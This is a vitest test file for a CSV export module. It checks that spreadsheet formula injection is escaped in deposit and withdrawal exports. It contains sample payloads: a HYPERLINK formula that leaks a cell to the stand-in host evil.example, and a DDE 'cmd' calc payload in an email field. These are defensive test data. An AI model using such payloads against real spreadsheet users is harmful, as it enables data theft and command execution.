import { fc, test as property } from '@fast-check/vitest';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { csvCell, exportColumns, toCsv, type ExportColumn } from '@shared/export/csv';
import type { DepositRow, WithdrawalRow } from '@shared/contract';

const column: ExportColumn<{ v: string | number | boolean | null }>[] = [{ header: 'Value', value: (r) => r.v }];
/** The cells of one column as a spreadsheet would read them back. */
const cells = (values: (string | number | boolean | null)[]): string[] =>
  Papa.parse<string[]>(
    toCsv(
      column,
      values.map((v) => ({ v }))
    ),
    { skipEmptyLines: false, delimiter: ',' }
  )
    .data.slice(1)
    .map((r) => r[0] ?? '');

const HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1,"Click")\n';

describe('CSV export', () => {
  it('escapes a formula followed by a line break, which papaparse on its own lets through', () => {
    // The reason the escaping lives in our code: papaparse's escapeFormulae misses this exact value.
    const papaparseOnly = Papa.unparse({ fields: ['v'], data: [[HYPERLINK]] }, { escapeFormulae: true, newline: '\r\n' });
    expect(Papa.parse<string[]>(papaparseOnly).data[1]?.[0]).toBe(HYPERLINK);

    expect(csvCell(HYPERLINK)).toBe(`'${HYPERLINK}`);
    expect(cells([HYPERLINK])).toEqual([`'${HYPERLINK}`]);
    expect(cells(['=HYPERLINK(...)\n'])).toEqual(["'=HYPERLINK(...)\n"]);
  });

  it('prefixes every text cell starting with = + - @, tab or carriage return', () => {
    const risky = ['=1+1', '+cmd', '-2+3', '@SUM(A1)', '\t=1', '\r=1', '=A1\r\n=B1', '-', '@'];
    expect(cells(risky)).toEqual(risky.map((v) => `'${v}`));
  });

  it('leaves other text alone, still quoting commas, quotes and line breaks', () => {
    const plain = ['Ann Lee', 'a=b', ' =1', 'Smith, Jane\n"JJ"', "'already", ''];
    expect(cells(plain)).toEqual(plain);
    expect(toCsv(column, [{ v: 'Smith, Jane\n"JJ"' }])).toContain('"Smith, Jane\n""JJ"""');
  });

  // Decision: a number is data, not text from a customer. -5 as a JavaScript number is written as
  // -5 so the spreadsheet can sum it; its text holds only digits, sign, point and exponent.
  it('writes negative and other finite numbers as numbers, not as escaped text', () => {
    expect(csvCell(-5)).toBe(-5);
    expect(cells([-5, -0.01, 1e21, -1e-7, 0])).toEqual(['-5', '-0.01', '1e+21', '-1e-7', '0']);
    expect(Papa.parse<unknown[]>(toCsv(column, [{ v: -5 }]), { dynamicTyping: true }).data[1]?.[0]).toBe(-5);
  });

  it('escapes the same characters when they arrive as text, and numbers that are not finite', () => {
    expect(cells(['-5', NaN, -Infinity, Infinity])).toEqual(["'-5", 'NaN', "'-Infinity", 'Infinity']);
  });

  it('writes booleans and empty cells as they are', () => {
    expect(cells([true, false, null])).toEqual(['true', 'false', '']);
  });

  it('an amount stored as text goes out escaped, a numeric amount as a number', () => {
    const row = (amount: number | null, amountRaw: string | null): DepositRow => ({
      id: 'd1',
      userId: 'u1',
      email: '=cmd|"/C calc"!A0',
      username: '@you',
      method: 'BITCOIN',
      amount,
      amountRaw,
      timestamp: null,
      status: 'pending',
      investmentId: null,
      txid: null
    });
    const parsed = Papa.parse<string[]>(toCsv(exportColumns.deposits, [row(-5, null), row(null, '-5+cmd')])).data;
    const amountAt = exportColumns.deposits.findIndex((c) => c.header === 'Amount');
    expect(parsed[1]?.[amountAt]).toBe('-5');
    expect(parsed[2]?.[amountAt]).toBe("'-5+cmd");
    expect(parsed[1]?.[0]).toBe('\'=cmd|"/C calc"!A0');
    expect(parsed[1]?.[1]).toBe("'@you");
  });

  it('exports each deposit and withdrawal with its txid in the Txid column, empty where none was given', () => {
    const hex = '4a5e1e4baab89f3a32518a88c31bc87f618f76673e2cc77ab2127b7afdeda33b';
    const eth = `0x${hex}`;
    const deposit = (id: string, txid: string | null): DepositRow => ({
      id,
      userId: 'u1',
      email: 'dana@example.com',
      username: 'Dana',
      method: 'BITCOIN',
      amount: 10,
      amountRaw: null,
      timestamp: null,
      status: 'success',
      investmentId: null,
      txid
    });
    const withdrawal = (id: string, txid: string | null): WithdrawalRow => ({
      id,
      userId: 'u1',
      email: 'wes@example.com',
      username: 'Wes',
      amount: 10,
      amountRaw: null,
      cryptoType: 'ETHEREUM',
      walletAddress: '0x52908400098527886e0f7030069857d2e4169ee7',
      createdAt: null,
      status: 'approved',
      txid,
      approvalRequestId: null
    });
    // Read back by header, as a spreadsheet's user would look for it.
    const byHeader = (csv: string) => Papa.parse<Record<string, string>>(csv, { header: true }).data.map((r) => [r.ID, r.Txid]);
    expect(byHeader(toCsv(exportColumns.deposits, [deposit('d1', hex), deposit('d2', null)]))).toEqual([
      ['d1', hex],
      ['d2', '']
    ]);
    expect(byHeader(toCsv(exportColumns.withdrawals, [withdrawal('w1', eth), withdrawal('w2', null)]))).toEqual([
      ['w1', eth],
      ['w2', '']
    ]);
  });

  property.prop([fc.constantFrom('=', '+', '-', '@', '\t', '\r'), fc.string({ unit: 'binary' })])(
    'any text starting with a formula character reads back with a leading quote, unchanged otherwise',
    (first, rest) => {
      expect(cells([first + rest])).toEqual([`'${first}${rest}`]);
    }
  );

  property.prop([fc.double({ noNaN: true, noDefaultInfinity: true })])('any finite number reads back as itself', (n) => {
    expect(Number(cells([n])[0])).toBe(n === 0 ? 0 : n);
  });
});
